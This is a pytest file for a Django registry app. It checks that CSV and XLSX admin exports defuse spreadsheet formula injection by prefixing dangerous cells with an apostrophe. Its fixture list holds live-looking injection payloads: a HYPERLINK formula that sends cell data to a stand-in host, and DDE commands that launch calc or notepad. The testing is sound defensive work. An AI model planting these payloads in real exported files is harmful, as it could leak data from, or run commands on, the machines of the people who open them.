"""Formula injection in every export: each list the admin exports (every admin with list export, in .csv and
.xlsx), with hostile text in every text column, comes out with no cell that a spreadsheet would run: text
starting with = + - @ tab or carriage return gets a leading apostrophe (registry/spreadsheet_safety.py), and no
.xlsx cell is a formula."""

import csv
import io

import pytest
from django.contrib import admin
from openpyxl import load_workbook

from registry.admin.lists import ListImportExportMixin
from registry.models import Jejaring, Kps, KpsKind, Mitra, MitraContact, Pengurus, PengurusRole, Wksbm
from registry.spreadsheet_safety import DANGEROUS_STARTS
from tests.factories import MembershipFactory, PengurusFactory
from tests.registry.network.factories import JejaringFactory, MitraContactFactory

HOSTILE = [
    '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")',
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMATS = {"csv": "0", "xlsx": "1"}
LIST_EXPORTS = [
    f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/"
    for model, model_admin in admin.site._registry.items()
    if isinstance(model_admin, ListImportExportMixin)
]


@pytest.fixture
def hostile_records(diy):
    """A WKSBM and a KPS whose every text column a user can fill starts like a formula (stored as an import
    would store them: the import takes a leading apostrophe off)."""
    membership = MembershipFactory()
    wksbm, kps = membership.wksbm, membership.kps
    for index, slug in enumerate(("ketua", "sekretaris", "bendahara")):
        PengurusFactory(wksbm=wksbm, role=PengurusRole.objects.get(slug=slug), name="x")
        Pengurus.objects.filter(wksbm=wksbm, role__slug=slug).update(name=HOSTILE[index + 2])
    Wksbm.objects.filter(pk=wksbm.pk).update(
        name=HOSTILE[0], address=HOSTILE[1], sk_number=HOSTILE[4], dusun_rw=HOSTILE[5]
    )
    KpsKind.objects.filter(pk=kps.kind_id).update(name=HOSTILE[3])
    Kps.objects.filter(pk=kps.pk).update(name=HOSTILE[1], leader=HOSTILE[0])
    # A mitra with its contact, and its tie with the WKSBM.
    tie = JejaringFactory(wksbm=wksbm, mitra=MitraContactFactory().mitra)
    Mitra.objects.filter(pk=tie.mitra_id).update(name=HOSTILE[0], address=HOSTILE[1], notes=HOSTILE[5])
    MitraContact.objects.filter(mitra=tie.mitra_id).update(name=HOSTILE[2], position=HOSTILE[3])
    Jejaring.objects.filter(pk=tie.pk).update(basis_number=HOSTILE[4], description=HOSTILE[1])
    return wksbm, kps


def exported_cells(response, extension: str) -> list:
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if extension == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
        return [cell for row in rows[1:] for cell in row]
    sheet = load_workbook(io.BytesIO(data)).active  # not data_only: a formula would show as one
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def test_every_list_export_is_covered():
    assert sorted(LIST_EXPORTS) == [
        "/admin/registry/jejaring/export/",
        "/admin/registry/kps/export/",
        "/admin/registry/mitra/export/",
        "/admin/registry/wksbm/export/",
    ]


@pytest.mark.parametrize("extension", FORMATS)
@pytest.mark.parametrize("url", LIST_EXPORTS)
def test_no_exported_cell_can_run_as_a_formula(admin_client, hostile_records, url, extension):
    response = admin_client.post(url, {"format": FORMATS[extension]})

    cells = exported_cells(response, extension)
    if extension == "xlsx":
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        cells = [cell.value for cell in cells if isinstance(cell.value, str)]
    shown = [cell for cell in cells if cell.startswith("'")]
    assert response.status_code == 200
    assert [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)] == []
    assert len(shown) >= 3, cells  # the hostile values are there, neutralised, not dropped
    assert all(cell[1:] in HOSTILE for cell in shown), shown


@pytest.mark.parametrize("extension", FORMATS)
def test_the_wksbm_export_keeps_each_hostile_value_readable(admin_client, hostile_records, extension):
    response = admin_client.post("/admin/registry/wksbm/export/", {"format": FORMATS[extension]})

    cells = exported_cells(response, extension)
    values = [cell if isinstance(cell, str) else cell.value for cell in cells]
    assert [value for value in values if isinstance(value, str) and value[1:] in HOSTILE] == [
        "'" + HOSTILE[0],
        "'" + HOSTILE[1],
        "'" + HOSTILE[4],
        "'" + HOSTILE[2],
        "'" + HOSTILE[3],
        "'" + HOSTILE[4],
    ]
